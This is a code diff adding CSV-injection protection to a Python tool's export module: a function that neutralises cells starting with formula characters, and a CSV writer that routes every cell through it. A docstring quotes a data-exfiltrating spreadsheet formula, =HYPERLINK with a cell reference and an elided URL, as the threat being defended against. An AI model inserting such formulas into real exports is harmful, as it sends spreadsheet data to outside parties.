@@ -44,3 +44,47 @@ def printable_lines(text: Any) -> str:
 def is_printable(text: str) -> bool:
     """Whether ``text`` holds nothing :func:`printable` would escape."""
     return _UNSAFE.search(text) is None
+
+
+# What a spreadsheet evaluates when a cell starts with it (OWASP, "CSV Injection"): a formula
+# (=, +, -, @), and a tab or carriage return in front of one; the full-width forms too, which
+# some spreadsheets fold to ASCII.
+_FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """``value`` as a CSV cell that a spreadsheet shows rather than evaluates.
+
+    Why: ``runs export --format csv`` and ``specs --csv`` write notes, messages and names that
+    came from users and imported files; opened in a spreadsheet, a cell such as
+    ``=HYPERLINK("http://…"&A1,"click")`` is a live formula that can send the sheet's data away.
+    A text cell that starts as a formula does is prefixed with ``'`` (OWASP's advice: the
+    spreadsheet then shows it as text). Numbers, including negative ones, pass unchanged, so the
+    file still reads back as data."""
+    if not isinstance(value, str) or not value.startswith(_FORMULA_START):
+        return value
+    if _NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def csv_text(columns: list[str], rows: list[dict[str, Any]]) -> str:
+    """A CSV file's text, header first, every cell through :func:`spreadsheet_safe`: the one
+    writer of every CSV gpuscout produces.
+
+    Lines end in LF, but a cell holding a CR or an LF is quoted either way: the csv module
+    quotes only the characters of its own line terminator, so each row is written with CRLF
+    and its terminator replaced (a lone CR in a note otherwise splits the row in two)."""
+    import csv
+    import io
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    lines = []
+    for values in [columns, *([spreadsheet_safe(row.get(c)) for c in columns] for row in rows)]:
+        buffer.seek(0)
+        buffer.truncate()
+        writer.writerow(values)
+        lines.append(buffer.getvalue()[:-2] + "\n")
+    return "".join(lines)
